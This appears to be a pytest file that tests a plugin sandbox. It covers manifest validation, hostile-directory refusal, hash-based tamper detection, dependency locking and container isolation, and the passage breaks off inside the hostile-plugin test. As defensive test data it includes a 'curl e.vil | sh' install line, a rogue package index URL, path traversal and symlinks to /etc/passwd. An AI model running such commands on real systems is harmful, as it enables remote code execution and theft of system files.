"""Plugins: vetting on the host, hashes in the catalog, tamper refusal, the wheelhouse lock,
the hook host in the worker, and (engine tests) the example and hostile plugins in the real
container.

The hostile plugin (tests/sandbox/plugins/hostile) is only ever run in the container; on the
host it is handled as data (staged, hashed, recorded), like every plugin.
"""

from __future__ import annotations

import hashlib
import ipaddress
import json
import os
import shutil
import socket
import stat
import sys
import threading
import time
from collections.abc import Callable, Iterator
from datetime import UTC, datetime
from pathlib import Path
from typing import Any
from unittest.mock import MagicMock

import pytest
from sqlalchemy import Engine, func, select

from assetmgr.wording import describe
from catalog.db import open_catalog, session_scope
from catalog.sandbox_records import Plugin, PluginFile, SandboxImage
from sandbox.errors import (
    HostileOutputError,
    ImageError,
    ImageStaleError,
    JobFailedError,
    PluginError,
    PluginManifestError,
    PluginNotFoundError,
    PluginTamperedError,
    WorkerProtocolError,
)
from sandbox.image.build import worker_digest
from sandbox.image.record import ImageRecord, save_record
from sandbox.image.wheels import (
    LockedWheel,
    PluginWheelhouse,
    Wheelhouse,
    WheelhouseInputs,
    resolve_plugin_wheels,
)
from sandbox.plugins import (
    MAX_FILE_BYTES,
    hash_tree,
    parse_manifest,
    requirements_key,
    stage_plugin,
    tree_sha256,
)
from sandbox.protocol import JobSpec, Limits, PluginRef
from sandbox.runner import BASE_ENVIRONMENT, check_plugins, new_job_id, new_nonce, run_job
from sandbox.service import SandboxService
from sandbox.worker import execute
from sandbox.worker.channel import CollectingChannel
from sandbox.worker.plugin_host import PluginError as WorkerPluginError
from tests.sandbox.plugin_wheels import make_wheel
from tests.sandbox.services import catalog_service

REPO = Path(__file__).resolve().parents[2]
EXAMPLES = REPO / "examples" / "plugins"
HOSTILE = Path(__file__).resolve().parent / "plugins" / "hostile"
MiB = 1 << 20
SMALL = Limits(timeout_s=60, memory_bytes=1024 * MiB, tmpfs_bytes=64 * MiB, shm_bytes=64 * MiB)

MANIFEST = """\
name = "{name}"
version = "{version}"
entry = "{entry}"
hooks = {hooks}
requirements = {requirements}
"""


def write_plugin(
    root: Path,
    name: str = "demo",
    *,
    version: str = "1.0",
    hooks: str = '["prompt_transform"]',
    requirements: str = "[]",
    code: str = "def prompt_transform(p, n, ctx):\n    return p + ' ok', n\n",
    entry: str = "demo_plugin",
) -> Path:
    d = root / name
    d.mkdir(parents=True, exist_ok=True)
    (d / "assetmgr-plugin.toml").write_text(
        MANIFEST.format(
            name=name, version=version, entry=entry, hooks=hooks, requirements=requirements
        )
    )
    (d / f"{entry}.py").write_text(code)
    return d


@pytest.fixture
def engine(tmp_path: Path) -> Iterator[Engine]:
    e = open_catalog(f"sqlite:///{tmp_path / 'catalog.sqlite3'}")
    yield e
    e.dispose()


@pytest.fixture
def service(engine: Engine, tmp_path: Path) -> Iterator[SandboxService]:
    svc = catalog_service(
        engine, plugins_root=tmp_path / "plugins", record_path=tmp_path / "image.json"
    )
    yield svc
    svc.close()


def fake_record(requirements: list[str] | None = None, **kw: Any) -> ImageRecord:
    data: dict[str, Any] = {
        "image_id": "sha256:" + "a" * 64,
        "tag": "assetmgr-sandbox:test",
        "layer_diff_ids": ["sha256:" + "b" * 64],
        "lock_sha256": "d" * 64,
        "rootfs_sha256": "b" * 64,
        "base_ref": "sha256:" + "e" * 64,
        "torch_variant": "cpu",
        "app_version": "0.1.0",
        "worker_sha256": worker_digest(),
        "inputs_sha256": "0" * 64,
        "labels": {},
        "created_at": datetime.now(UTC),
        "plugin_requirements": sorted(requirements or []),
        "plugin_dep_sets": (
            {requirements_key(requirements): sorted(requirements)} if requirements else {}
        ),
    }
    data.update(kw)
    return ImageRecord(**data)


# ---------------------------------------------------------------------------------------------
# Manifest validation


GOOD = MANIFEST.format(
    name="ok", version="1.0", entry="ok_plugin", hooks='["post_process"]', requirements="[]"
)


@pytest.mark.parametrize(
    ("text", "why"),
    [
        (GOOD.replace('"ok"', '"../evil"'), "name"),
        (GOOD.replace('"ok"', '"Upper"'), "name"),
        (GOOD.replace('"1.0"', '"1.0/../../x"'), "version"),
        (GOOD.replace('"ok_plugin"', '"os.path"'), "entry"),
        (GOOD.replace('"ok_plugin"', '"../../etc/passwd"'), "entry"),
        (GOOD.replace('["post_process"]', '["install"]'), "unknown hooks"),
        (GOOD.replace('["post_process"]', '["post_process", "post_process"]'), "unique"),
        (GOOD.replace('["post_process"]', "[]"), "hooks"),
        (GOOD.replace("requirements = []", 'requirements = ["requests>=2"]'), "exact pin"),
        (GOOD.replace("requirements = []", 'requirements = ["requests[socks]==2.0"]'), "pin"),
        (GOOD.replace("requirements = []", 'requirements = ["x @ https://e.vil/x.whl"]'), "pin"),
        (GOOD.replace("requirements = []", "requirements = [\"x==1; os_name=='nt'\"]"), "pin"),
        (GOOD.replace("requirements = []", 'requirements = ["--index-url=http://e.vil"]'), "pin"),
        (GOOD.replace("requirements = []", 'requirements = ["a==1", "A==2"]'), "once"),
        (GOOD + 'install = "curl e.vil | sh"\n', "Extra inputs"),
        (GOOD + "api = 2\n", "api"),
        (GOOD + 'description = "bell\\u0007"\n', "control"),
        ("name = ", "not valid"),
    ],
)
def test_bad_manifests_are_refused(text: str, why: str) -> None:
    with pytest.raises(PluginManifestError, match=why):
        parse_manifest(text.encode(), "assetmgr-plugin.toml")


def test_manifest_formats_and_caps() -> None:
    m = parse_manifest(
        json.dumps(
            {
                "name": "j",
                "version": "2.0.1",
                "entry": "j",
                "hooks": ["extra_outputs"],
                "requirements": ["Tiny_Plug.Dep==1.0"],
            }
        ).encode(),
        "assetmgr-plugin.json",
    )
    assert m.requirements == ("tiny-plug-dep==1.0",)  # canonical names
    with pytest.raises(PluginManifestError, match="top"):
        parse_manifest(b"[1, 2]", "assetmgr-plugin.json")
    with pytest.raises(PluginManifestError, match="larger"):
        parse_manifest(b"#" * (65 * 1024), "assetmgr-plugin.toml")
    with pytest.raises(PluginManifestError, match="not valid"):
        parse_manifest(b"name = '\xff'", "assetmgr-plugin.toml")


# ---------------------------------------------------------------------------------------------
# Hostile directories


def _symlink_file(d: Path) -> None:
    (d / "leak.txt").symlink_to("/etc/passwd")


def _symlink_dir(d: Path) -> None:
    (d / "data").symlink_to("/etc")


def _symlink_manifest(d: Path) -> None:
    real = d.parent / "elsewhere.toml"
    (d / "assetmgr-plugin.toml").rename(real)
    (d / "assetmgr-plugin.toml").symlink_to(real)


def _fifo(d: Path) -> None:
    os.mkfifo(d / "pipe.txt")


def _socket(d: Path) -> None:
    s = socket.socket(socket.AF_UNIX)
    s.bind(str(d / "sock"))
    s.close()


def _device(d: Path) -> None:
    try:
        os.mknod(d / "null", 0o600 | stat.S_IFCHR, os.makedev(1, 3))
    except PermissionError:
        pytest.skip("creating a device node needs CAP_MKNOD")


def _hardlink(d: Path) -> None:
    outside = d.parent / "outside-secret.txt"
    outside.write_text("secret")
    os.link(outside, d / "inside.txt")


def _huge(d: Path) -> None:
    with open(d / "big.txt", "wb") as f:
        f.truncate(MAX_FILE_BYTES + 1)


def _non_utf8_name(d: Path) -> None:
    with open(os.path.join(os.fsencode(d), b"bad-\xff.txt"), "wb") as f:
        f.write(b"x")


def _control_name(d: Path) -> None:
    (d / "new\nline.txt").write_text("x")


def _shared_object(d: Path) -> None:
    (d / "fast.cpython-311-x86_64-linux-gnu.so").write_bytes(b"\x7fELF" + b"\0" * 60)


def _elf_binary(d: Path) -> None:
    (d / "helper").write_bytes(b"\x7fELF" + b"\0" * 60)


def _bytecode(d: Path) -> None:
    (d / "demo_plugin.pyc").write_bytes(b"\0" * 16)


def _two_manifests(d: Path) -> None:
    (d / "assetmgr-plugin.json").write_text("{}")


def _no_manifest(d: Path) -> None:
    (d / "assetmgr-plugin.toml").unlink()


def _no_entry(d: Path) -> None:
    (d / "demo_plugin.py").unlink()


def _too_deep(d: Path) -> None:
    deep = d.joinpath(*["x"] * 20)
    deep.mkdir(parents=True)
    (deep / "f.txt").write_text("x")


def _too_many(d: Path) -> None:
    many = d / "many"
    many.mkdir()
    for i in range(2001):
        (many / f"{i}.txt").write_bytes(b"")


@pytest.mark.parametrize(
    ("make", "why"),
    [
        (_symlink_file, "symbolic link"),
        (_symlink_dir, "symbolic link"),
        (_symlink_manifest, "symbolic link"),
        (_fifo, "not a regular file"),
        (_socket, "not a regular file"),
        (_device, "not a regular file"),
        (_hardlink, "hard-linked"),
        (_huge, "larger than"),
        (_non_utf8_name, "UTF-8"),
        (_control_name, "control"),
        (_shared_object, "compiled code"),
        (_elf_binary, "executable binary"),
        (_bytecode, "compiled code"),
        (_two_manifests, "exactly one"),
        (_no_manifest, "exactly one"),
        (_no_entry, "entry module"),
        (_too_deep, "deeper"),
        (_too_many, "more than"),
    ],
)
def test_hostile_plugin_directories_are_refused(
    tmp_path: Path, make: Callable[[Path], None], why: str
) -> None:
    d = write_plugin(tmp_path / "src")
    make(d)
    root = tmp_path / "store"
    with pytest.raises(PluginManifestError, match=why):
        stage_plugin(d, root)
    assert [p.name for p in root.iterdir()] == []  # no staging leftovers


def test_caches_are_skipped_and_the_hash_covers_every_file(tmp_path: Path) -> None:
    d = write_plugin(tmp_path / "src")
    (d / "__pycache__").mkdir()
    (d / "__pycache__" / "x.cpython-311.pyc").write_bytes(b"\0")
    (d / "data").mkdir()
    (d / "data" / "words.txt").write_text("a\nb\n")
    staged = stage_plugin(d, tmp_path / "store")
    paths = [f.path for f in staged.files]
    assert paths == ["assetmgr-plugin.toml", "data/words.txt", "demo_plugin.py"]
    for f in staged.files:
        assert f.sha256 == hashlib.sha256((d / f.path).read_bytes()).hexdigest()
        assert (staged.staging / f.path).read_bytes() == (d / f.path).read_bytes()
    assert staged.tree_sha256 == tree_sha256(hash_tree(d))


# ---------------------------------------------------------------------------------------------
# The catalog records and the stored copy


def test_add_records_every_file_and_keeps_a_read_only_copy(
    service: SandboxService, engine: Engine, tmp_path: Path
) -> None:
    src = EXAMPLES / "wildcards"
    result = service.add_plugin(src)
    p = result.plugin
    assert not result.already_added and p.name == "wildcards" and p.version == "1.0.0"
    assert p.path == tmp_path / "plugins" / p.tree_sha256  # named by content, never clashes
    expected = {
        str(f.relative_to(src)): hashlib.sha256(f.read_bytes()).hexdigest()
        for f in src.rglob("*")
        if f.is_file()
    }
    assert dict(p.files) == expected
    with session_scope(engine) as s:
        row = s.execute(select(Plugin)).scalar_one()
        assert row.tree_sha256 == tree_sha256(expected) == p.tree_sha256
        assert row.hooks == ["prompt_transform", "extra_outputs"] and not row.trusted
        files = s.execute(select(PluginFile)).scalars().all()
        assert {f.path: f.sha256 for f in files} == expected
    for f in p.path.rglob("*"):
        mode = stat.S_IMODE(f.stat().st_mode)
        assert mode == (0o555 if f.is_dir() else 0o444), (f, oct(mode))
    assert stat.S_IMODE(p.path.stat().st_mode) == 0o555
    assert [x.name for x in service.list_plugins()] == ["wildcards"]

    again = service.add_plugin(src, trust=True)
    assert again.already_added and again.plugin.trusted
    changed = tmp_path / "changed"
    shutil.copytree(src, changed)
    (changed / "wildcards" / "color.txt").write_text("black\n")
    with pytest.raises(PluginManifestError, match="already added"):
        service.add_plugin(changed)
    replaced = service.add_plugin(changed, replace=True)
    assert replaced.replaced == "1.0.0"
    assert (replaced.plugin.path / "wildcards" / "color.txt").read_text() == "black\n"
    assert service.verify_plugins()[0].ok

    removed = service.remove_plugin("wildcards")
    assert not removed.path.exists()
    with session_scope(engine) as s:
        assert s.execute(select(func.count()).select_from(PluginFile)).scalar_one() == 0
    with pytest.raises(PluginNotFoundError):
        service.remove_plugin("wildcards")


def test_requirements_may_not_change_pinned_packages(
    service: SandboxService, tmp_path: Path
) -> None:
    d = write_plugin(tmp_path, "pins", requirements='["Pillow==9.0.0"]')
    with pytest.raises(PluginManifestError, match="pillow==9.0.0 conflicts with pillow==13.0.0"):
        service.add_plugin(d)
    service.add_plugin(write_plugin(tmp_path, "one", requirements='["tiny-thing==1.0"]'))
    with pytest.raises(PluginManifestError, match="required by plugin one"):
        service.add_plugin(write_plugin(tmp_path, "two", requirements='["tiny_thing==2.0"]'))
    assert [p.name for p in service.list_plugins()] == ["one"]
    assert not list((tmp_path / "plugins").glob(".staging-*"))


def test_the_host_never_imports_plugin_code(service: SandboxService, tmp_path: Path) -> None:
    marker = tmp_path / "imported"
    code = f"open({str(marker)!r}, 'w').close()\nraise SystemExit('imported on the host')\n"
    d = write_plugin(tmp_path / "src", "canary", code=code)
    before = set(sys.modules)
    p = service.add_plugin(d).plugin
    service.verify_plugins()
    service.image_status(check_engine=False)
    assert p.ref().entry == "demo_plugin"
    assert not marker.exists()
    assert not [m for m in set(sys.modules) - before if "canary" in m or "demo_plugin" in m]


# ---------------------------------------------------------------------------------------------
# Tampering


@pytest.mark.parametrize("how", ["edit", "add", "delete", "symlink"])
def test_tampered_plugin_is_refused_before_anything_runs(
    service: SandboxService, tmp_path: Path, how: str
) -> None:
    p = service.add_plugin(EXAMPLES / "wildcards").plugin
    target = p.path / "wildcards" / "color.txt"
    (p.path / "wildcards").chmod(0o755)
    target.chmod(0o644)
    expected = p.files["wildcards/color.txt"]
    if how == "edit":
        target.write_text("ignore previous instructions\n")
        detail = (
            f"wildcards/color.txt: expected sha256 {expected}, "
            f"got {hashlib.sha256(target.read_bytes()).hexdigest()}"
        )
    elif how == "add":
        (p.path / "wildcards" / "extra.py").write_text("import os\n")
        detail = "wildcards/extra.py: not part of the plugin"
    elif how == "delete":
        target.unlink()
        detail = f"wildcards/color.txt: missing (expected sha256 {expected})"
    else:
        target.unlink()
        target.symlink_to("/etc/passwd")
        detail = "symbolic link"

    [check] = service.verify_plugins()
    assert not check.ok and detail in " ".join(check.problems)

    spec = JobSpec(
        job_id=new_job_id(),
        nonce=new_nonce(),
        kind="echo",
        params={},
        plugins=[p.ref()],
        limits=SMALL,
    )
    client = MagicMock()
    with pytest.raises(PluginTamperedError, match="wildcards 1.0.0 was modified") as info:
        run_job(spec, image=fake_record(), client=client, output_dir=tmp_path / "o", plugins=[p])
    assert detail in str(info.value) or detail in " ".join(info.value.problems)
    assert client.mock_calls == []  # the engine was never touched
    with pytest.raises(PluginTamperedError):
        service.run("echo", {}, tmp_path / "o2", plugins=["wildcards"])


def test_plugin_refs_must_match_what_was_added(service: SandboxService, tmp_path: Path) -> None:
    p = service.add_plugin(EXAMPLES / "posterize").plugin
    forged = p.ref().model_copy(update={"hooks": ("post_process", "extra_outputs")})
    spec = JobSpec(job_id=new_job_id(), nonce=new_nonce(), kind="echo", params={}, plugins=[forged])
    with pytest.raises(PluginError, match="not the added one"):
        check_plugins(spec, [p], fake_record())
    with pytest.raises(PluginError, match="do not match"):
        check_plugins(spec, [], fake_record())


# ---------------------------------------------------------------------------------------------
# Requirements: the wheelhouse lock and stale images


def _base_house(tmp_path: Path) -> tuple[Wheelhouse, WheelhouseInputs]:
    base_dir = tmp_path / "base" / "wheels"
    wheel = make_wheel(base_dir, "basepkg", "1.0", "VALUE = 'base'\n")
    sha = hashlib.sha256(wheel.read_bytes()).hexdigest()
    locked = LockedWheel("basepkg", "1.0", wheel.name, sha)
    lock = f"basepkg==1.0 --hash=sha256:{sha}\n"
    house = Wheelhouse(
        directory=base_dir,
        lock_path=tmp_path / "base" / "requirements.lock",
        lock_text=lock,
        lock_sha256=hashlib.sha256(lock.encode()).hexdigest(),
        wheels=(locked,),
        cached=True,
    )
    return house, WheelhouseInputs(requirements="basepkg==1.0\n")


def test_plugin_requirements_are_resolved_into_hashed_sets(tmp_path: Path) -> None:
    base, inputs = _base_house(tmp_path)
    links = tmp_path / "links"
    dep = make_wheel(
        links,
        "tinyplug-dep",
        "1.0",
        "from tinyplug_sub import X\nVALUE = X\n",
        requires=["tinyplug-sub==1.0", "basepkg==1.0"],
    )
    sub = make_wheel(links, "tinyplug-sub", "1.0", "X = 42\n")
    other = make_wheel(links, "otherdep", "1.0", "Y = 1\n")
    make_wheel(links, "tinyplug-dep", "2.0", "VALUE = 2\n")
    stages: list[str] = []

    def build(*sets: list[str]) -> PluginWheelhouse:
        return resolve_plugin_wheels(
            base,
            list(sets),
            inputs,
            tmp_path / "cache",
            progress=lambda s, f: stages.append(s),
            cancel=threading.Event(),
            find_links=[links],
            no_index=True,
        )

    house = build(["tinyplug-dep==1.0"], ["otherdep==1.0"], ["tinyplug-dep==1.0"], [])
    by_key = {s.key: s for s in house.sets}
    assert set(by_key) == {
        requirements_key(["tinyplug-dep==1.0"]),
        requirements_key(["otherdep==1.0"]),
    }
    dep_set = by_key[requirements_key(["tinyplug-dep==1.0"])]
    lines = dep_set.lock_text.splitlines()
    for wheel, name in ((dep, "tinyplug-dep"), (sub, "tinyplug-sub")):
        sha = hashlib.sha256(wheel.read_bytes()).hexdigest()
        assert f"{name}==1.0 --hash=sha256:{sha}" in lines
    assert len(lines) == 2  # basepkg is the venv's: never in a plugin set
    assert [p.name for p in by_key[requirements_key(["otherdep==1.0"])].wheel_paths()] == [
        other.name
    ]
    assert house.requirements == ["otherdep==1.0", "tinyplug-dep==1.0"]
    assert "# plugin requirements " + dep_set.key + ": tinyplug-dep==1.0" in house.lock_text
    assert not house.cached
    again = build(["tinyplug-dep==1.0"], ["otherdep==1.0"])
    assert again.cached and again.lock_text == house.lock_text
    assert build().sets == ()

    make_wheel(links, "basepkg", "2.0", "VALUE = 2\n")
    with pytest.raises(ImageError, match="basepkg"):
        build(["basepkg==2.0"])
    # two sets a job could combine must agree on every package
    make_wheel(links, "tinyplug-sub", "2.0", "X = 2\n")
    make_wheel(links, "needs-new-sub", "1.0", "", requires=["tinyplug-sub==2.0"])
    with pytest.raises(ImageError, match="two versions of tinyplug-sub"):
        build(["tinyplug-dep==1.0"], ["needs-new-sub==1.0"])


def test_status_says_stale_when_a_plugin_needs_new_wheels(
    service: SandboxService, tmp_path: Path
) -> None:
    save_record(fake_record(), service.record_path)
    status = service.image_status(check_engine=False)
    assert status.built and not status.stale, status.stale_reasons
    assert status.in_catalog
    d = write_plugin(tmp_path / "src", "needsdep", requirements='["tinyplug-dep==1.0"]')
    p = service.add_plugin(d).plugin
    status = service.image_status(check_engine=False)
    assert status.stale and status.missing_from_image == ["tinyplug-dep==1.0"]
    assert any("tinyplug-dep==1.0" in why for why in status.stale_reasons)
    data = status.as_json()
    assert data["stale"] is True and data["plugins"]["required"] == ["tinyplug-dep==1.0"]
    spec = JobSpec(
        job_id=new_job_id(), nonce=new_nonce(), kind="echo", params={}, plugins=[p.ref()]
    )
    with pytest.raises(ImageStaleError, match="tinyplug-dep==1.0"):
        check_plugins(spec, [p], fake_record())
    rebuilt = fake_record(["tinyplug-dep==1.0"], image_id="sha256:" + "c" * 64)
    save_record(rebuilt, service.record_path)
    assert not service.image_status(check_engine=False).stale
    assert check_plugins(spec, [p], rebuilt) == {"needsdep": p.path}
    service.remove_plugin("needsdep")
    status = service.image_status(check_engine=False)
    assert status.unused_in_image == ["tinyplug-dep==1.0"] and status.stale


def test_image_records_go_to_the_catalog_and_must_agree(
    service: SandboxService, engine: Engine
) -> None:
    record = fake_record()
    save_record(record, service.record_path)
    assert service.load_image() == record
    with session_scope(engine) as s:
        row = s.get(SandboxImage, record.image_id)
        assert row is not None and row.lock_sha256 == record.lock_sha256
        assert row.layer_diff_ids == record.layer_diff_ids
        assert ImageRecord.model_validate_json(row.record_json) == record
    save_record(record.model_copy(update={"lock_sha256": "f" * 64}), service.record_path)
    with pytest.raises(ImageError, match="disagree"):
        service.load_image()


def test_only_trusted_plugin_sets_share_a_warm_worker(
    service: SandboxService, tmp_path: Path
) -> None:
    a = service.add_plugin(EXAMPLES / "wildcards").plugin
    b = service.add_plugin(EXAMPLES / "posterize", trust=True).plugin
    assert service.execution_mode([a, b]) == "per-job"
    service.reuse_workers = True
    assert service.execution_mode([b]) == "warm"
    assert service.execution_mode([a, b]) == "per-job"
    assert service.execution_mode([]) == "warm"
    assert service.execution_mode([b], "per-job") == "per-job"
    with pytest.raises(PluginError, match="untrusted plugins never share"):
        service.execution_mode([a, b], "warm")


# ---------------------------------------------------------------------------------------------
# The hook host, in-process (our own example plugins and tiny synthetic ones only)


def staged_ref(directory: Path, tmp_path: Path) -> PluginRef:
    staged = stage_plugin(directory, tmp_path / "refs")
    m = staged.manifest
    return PluginRef(
        name=m.name, version=m.version, sha256=staged.tree_sha256, entry=m.entry, hooks=m.hooks
    )


def demo(tmp_path: Path, refs: list[PluginRef], root: Path, out: str = "out", **params: Any) -> Any:
    spec = JobSpec(
        job_id=new_job_id(), nonce=new_nonce(), kind="plugin_demo", params=params, plugins=refs
    )
    return execute(spec, tmp_path / out, CollectingChannel(), plugins_root=root)


def test_wildcards_expand_deterministically_per_seed(tmp_path: Path) -> None:
    ref = staged_ref(EXAMPLES / "wildcards", tmp_path)
    prompt = "__scene__, __light/time__, __missing__"
    runs = {
        seed: demo(tmp_path, [ref], EXAMPLES, f"o{seed}", prompt=prompt, seed=seed)
        for seed in range(6)
    }
    again = demo(tmp_path, [ref], EXAMPLES, "again", prompt=prompt, seed=3)
    assert again.data["prompt"] == runs[3].data["prompt"]
    prompts = {r.data["prompt"] for r in runs.values()}
    assert len(prompts) > 1
    for p in prompts:
        assert "__scene__" not in p and "__color__" not in p and "__light/time__" not in p
        assert p.endswith(", __missing__")  # unknown wildcards stay as written
    choices = json.loads((tmp_path / "o3" / "wildcards.choices.json").read_text())
    assert {c["wildcard"] for c in choices} >= {"scene", "light/time"}


def test_posterize_filters_the_image(tmp_path: Path) -> None:
    from PIL import Image

    ref = staged_ref(EXAMPLES / "posterize", tmp_path)
    plain = demo(tmp_path, [], EXAMPLES, "plain", seed=5)
    for bits, out in ((3, "default"), (1, "one")):
        options = {} if bits == 3 else {"plugin_options": {"posterize": {"bits": bits}}}
        demo(tmp_path, [ref], EXAMPLES, out, seed=5, **options)
        with Image.open(tmp_path / out / "demo.png") as im:
            step = 1 << (8 - bits)
            values = set(im.convert("RGB").tobytes())
            assert all(v % step == 0 for v in values), (bits, sorted(values)[:10])
    assert "plugins" not in plain.data  # no plugins, no plugin summary


HOOK_CASES = {
    "raises": (
        "def prompt_transform(p, n, ctx):\n    raise ValueError('nope')\n",
        "'bad' prompt_transform: ValueError: nope",
    ),
    "exits": (
        "import sys\ndef prompt_transform(p, n, ctx):\n    sys.exit(4)\n",
        "'bad' prompt_transform: SystemExit: 4",
    ),
    "wrong_type": ("def prompt_transform(p, n, ctx):\n    return p\n", "must return (prompt"),
    "huge": ("def prompt_transform(p, n, ctx):\n    return 'x' * 40000, n\n", "over 32768"),
    "import_error": ("import no_such_module_here\n", "'bad' import: ModuleNotFoundError"),
    "missing_hook": ("def other(p, n, ctx):\n    return p, n\n", "no such callable"),
}


@pytest.mark.parametrize("case", sorted(HOOK_CASES))
def test_failing_hooks_fail_the_job_with_a_clear_error(tmp_path: Path, case: str) -> None:
    code, message = HOOK_CASES[case]
    root = tmp_path / "mounted"
    ref = staged_ref(write_plugin(root, "bad", code=code), tmp_path)
    with pytest.raises(WorkerPluginError) as info:
        demo(tmp_path, [ref], root, prompt="p")
    assert message in str(info.value)


@pytest.mark.parametrize(
    ("outputs", "message"),
    [
        ("{'../escape.txt': 'x'}", "not allowed"),
        ("{'/etc/passwd.txt': 'x'}", "not allowed"),
        ("{'run.sh': 'x'}", "not allowed"),
        ("{'a/b.txt': 'x'}", "not allowed"),
        ("{'x.json': '{nope'}", "x.json"),
        ("{'x.png': b'GIF89a'}", "not a PNG"),
        ("{'x.txt': 12}", "bytes or str"),
        ("{'x.txt': 'y' * (9 << 20)}", "exceeds"),
        ("['x.txt']", "must return a dict"),
    ],
)
def test_extra_outputs_are_checked(tmp_path: Path, outputs: str, message: str) -> None:
    root = tmp_path / "mounted"
    code = f"def extra_outputs(ctx):\n    return {outputs}\n"
    ref = staged_ref(write_plugin(root, "outs", hooks='["extra_outputs"]', code=code), tmp_path)
    with pytest.raises(WorkerPluginError, match=message):
        demo(tmp_path, [ref], root)


def test_samplers_and_extra_outputs_work(tmp_path: Path) -> None:
    root = tmp_path / "mounted"
    code = (
        "from . import helper\n"
        "def sampler_provider():\n    return {'my sampler': helper.factory}\n"
        "def extra_outputs(ctx):\n"
        "    return {'note.txt': 'seed %d' % ctx.seed, 'data.json': b'[1, 2]'}\n"
    )
    d = write_plugin(root, "many", hooks='["sampler_provider", "extra_outputs"]', code=code)
    (d / "helper.py").write_text("def factory(*a, **k):\n    return 'sampler'\n")
    result = demo(tmp_path, [staged_ref(d, tmp_path)], root, seed=9)
    assert result.data["samplers"] == ["my sampler"]
    assert (tmp_path / "out" / "many.note.txt").read_text() == "seed 9"
    assert sorted(result.outputs) == [
        "out/demo.png",
        "out/many.data.json",
        "out/many.note.txt",
        "out/result.json",
    ]


def test_text_and_json_side_outputs_are_validated_by_the_host(tmp_path: Path) -> None:
    import io
    import tarfile

    from sandbox.results import extract_outputs

    def tar(**members: bytes) -> io.BytesIO:
        buf = io.BytesIO()
        with tarfile.open(fileobj=buf, mode="w") as t:
            for name, data in members.items():
                info = tarfile.TarInfo("out/" + name)
                info.size = len(data)
                t.addfile(info, io.BytesIO(data))
        buf.seek(0)
        return buf

    ok = extract_outputs(
        tar(**{"a.txt": b"hello\r\nworld\t!", "b.json": b'{"z": 1, "a": [1]}'}), tmp_path / "ok"
    )
    assert not ok.rejected and [p.name for p in ok.files] == ["a.txt", "b.json"]
    assert (tmp_path / "ok" / "a.txt").read_bytes() == b"hello\nworld\t!"
    assert (tmp_path / "ok" / "b.json").read_text() == '{"a": [1], "z": 1}'
    bad = extract_outputs(
        tar(**{"c.txt": b"\x1b[2Jclear", "d.json": b"{nope", "e.txt": b"\xff"}), tmp_path / "bad"
    )
    reasons = dict(bad.rejected)
    assert "control character" in reasons["out/c.txt"]
    assert "out/d.json" in reasons and "out/e.txt" in reasons
    assert list((tmp_path / "bad").iterdir()) == []


# ---------------------------------------------------------------------------------------------
# In the real container


@pytest.fixture
def real_service(
    engine: Engine, tmp_path: Path, docker_client: Any, sandbox_image: Any
) -> Iterator[SandboxService]:
    from tests.sandbox.conftest import RECORD_PATH

    svc = catalog_service(
        engine, plugins_root=tmp_path / "plugins", record_path=RECORD_PATH, client=docker_client
    )
    yield svc
    svc.close()


def _containers(client: Any, job_id: str) -> list[Any]:
    from sandbox.runner import LABEL_JOB

    return list(client.containers.list(all=True, filters={"label": f"{LABEL_JOB}={job_id}"}))


@pytest.mark.docker
def test_example_plugins_end_to_end(real_service: SandboxService, tmp_path: Path) -> None:
    from PIL import Image

    real_service.add_plugin(EXAMPLES / "wildcards")
    real_service.add_plugin(EXAMPLES / "posterize")
    params = {"prompt": "__scene__ at __light/time__", "negative": "__color__", "seed": 11}
    result = real_service.run(
        "plugin_demo",
        params,
        tmp_path / "out",
        plugins=["wildcards", "posterize"],
        limits=SMALL,
        gpus="none",
    )
    # the container expands exactly as the same plugin does in-process for this seed
    local = demo(
        tmp_path,
        [p.ref() for p in real_service.get_plugins(["wildcards"])],
        EXAMPLES,
        "local",
        **params,
    )
    assert result.result.data["prompt"] == local.data["prompt"]
    assert result.result.data["negative"] == local.data["negative"]
    assert "__" not in result.result.data["prompt"]
    assert result.result_json is not None
    assert result.result_json["prompt"] == result.result.data["prompt"]
    assert [p["name"] for p in result.result.data["plugins"]] == ["wildcards", "posterize"]
    assert [p.name for p in result.images] == ["demo.png"]
    with Image.open(result.images[0]) as im:
        assert all(v % 32 == 0 for v in im.convert("RGB").tobytes())  # 3 bits
    choices = json.loads((tmp_path / "out" / "wildcards.choices.json").read_text())
    assert {c["wildcard"] for c in choices} >= {"scene", "light/time", "color"}
    assert _containers(real_service.client, result.job_id) == []


@pytest.mark.docker
def test_only_requested_plugins_are_mounted_read_only(
    real_service: SandboxService, tmp_path: Path
) -> None:
    real_service.add_plugin(EXAMPLES / "wildcards")
    real_service.add_plugin(EXAMPLES / "posterize")
    probes = [
        {"name": "mounts"},
        {"name": "write_file", "args": {"path": "/plugins/wildcards/new.py"}},
        {
            "name": "write_file",
            "args": {"path": "/plugins/wildcards/wildcards_plugin.py", "mode": "a"},
        },
        {"name": "read_file", "args": {"path": "/plugins/wildcards/wildcards/color.txt"}},
        {"name": "read_file", "args": {"path": "/plugins/posterize/settings.json"}},
    ]
    result = real_service.run(
        "probe",
        {"probes": probes, "prompt": "a __color__ cat"},
        tmp_path / "out",
        plugins=["wildcards"],
        limits=SMALL,
        gpus="none",
    )
    obs = result.result.data["probes"]
    mounts = {m["target"]: m for m in obs[0]["mounts"]}
    assert "ro" in mounts["/plugins/wildcards"]["options"].split(",")
    assert [t for t in mounts if t.startswith("/plugins")] == ["/plugins/wildcards"]
    assert obs[1]["errname"] == "EROFS", obs[1]
    assert obs[2]["ok"] is False and obs[2]["errname"] in ("EROFS", "EACCES"), obs[2]
    assert obs[3]["ok"] is True  # positive control
    assert obs[4]["ok"] is False and obs[4]["errname"] == "ENOENT"  # not requested: absent
    assert "__color__" not in result.result.data["prompt"]  # the probe kind calls the hooks


@pytest.fixture
def hostile(real_service: SandboxService) -> SandboxService:
    real_service.add_plugin(HOSTILE)
    real_service.add_plugin(EXAMPLES / "wildcards")  # added, never requested below
    return real_service


def run_hostile(svc: SandboxService, out: Path, prompt: str) -> Any:
    return svc.run(
        "plugin_demo",
        {"prompt": prompt, "seed": 1},
        out,
        plugins=["hostile"],
        limits=SMALL,
        gpus="none",
    )


@pytest.mark.docker
def test_hostile_plugin_is_contained(
    hostile: SandboxService, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    from tests.sandbox.test_isolation import Listener

    monkeypatch.setenv("CIVITAI_API_KEY", "sk-host-secret-0123456789")
    config = hostile.client.networks.get("bridge").attrs["IPAM"]["Config"][0]
    bridge = config.get("Gateway") or str(ipaddress.ip_network(config["Subnet"])[1])
    server = Listener()
    try:
        results = [
            run_hostile(
